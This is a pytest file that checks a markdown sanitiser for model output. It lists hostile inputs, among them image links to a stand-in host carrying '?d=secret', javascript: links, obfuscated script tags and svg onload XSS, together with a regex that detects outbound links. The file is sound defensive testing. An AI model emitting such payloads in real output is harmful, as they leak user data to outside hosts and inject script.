import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapp.reasoning.markdown import sanitise

DANGEROUS = re.compile(
    r"\]\(|!\[|<[a-zA-Z/!?]|[a-z][a-z0-9+.\-]*:/|\bwww\.\S|\b(?:javascript|data|mailto):\S",
    re.IGNORECASE,
)
HOSTILE = [
    "![x](https://evil.example/p.png?d=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[a [b](http://evil.example)](http://evil.example)",
    '<img src="https://evil.example/p.png">',
    "<img src=//evil.example/p.png",
    "<scr<b>ipt>alert(1)</scr</b>ipt>",
    "<a href='http://evil.example'>x</a>",
    "<https://evil.example>",
    "see http://evil.example/path and www.evil.example",
    "//evil.example/x.png",
    "<!-- <img src=x> -->",
    "ht<b></b>tps://evil.example",
    "![a](data:image/png;base64,AAAA)",
    "<svg onload=alert(1)><circle/></svg>",
    "\u200bh\u200bttps://evil.example",
    "write to a.b@evil.example",
    "$\\href{https://evil.example}{x}$ \\includegraphics{x}",
    "[x]\n(https://evil.example)",
    "![" * 30 + "](" * 30,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_reaches_out_survives(text):
    clean, removed = sanitise(text)
    assert removed
    assert not DANGEROUS.search(clean)
    assert "evil.example" not in clean
    assert sanitise(clean)[0] == clean


def test_ordinary_markdown_stays_as_it_is():
    text = (
        "## Finding\n\n**Region 1** is a *thin* line [bottle/scratch].\n\n- cause: wear\n"
        "1. look\n\n| a | b |\n|---|---|\n| 0.8 | < 1 % |\n\n`code` and score < 0.6, 3 > 2."
    )
    assert sanitise(text) == (text, False)


def test_a_page_id_before_a_colon_is_no_link_definition():
    clean, removed = sanitise("[bottle/scratch]: the edge is worn")
    assert clean == "[bottle/scratch] : the edge is worn"
    assert not removed


def test_thoughts_of_a_model_are_dropped_also_while_they_last():
    assert sanitise("<think>it is fine</think>It is a scratch.")[0] == "It is a scratch."
    assert sanitise("Yes. <think>hmm")[0] == "Yes."


PIECES = [
    *("<", ">", "![", "](", "]:", "[", "]", "(", ")", "http", "://", "//", "www.", "a", ".b"),
    *("javascript:", "<b>", "</b>", "<!--", "-->", "\n", " ", "@", "<script>", "</script>", "\\"),
]
TEXTS = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=30)


@given(TEXTS.map("".join))
def test_any_text_comes_out_harmless_and_stays_so(text):
    clean, _ = sanitise(text)
    assert not DANGEROUS.search(clean)
    assert sanitise(clean)[0] == clean
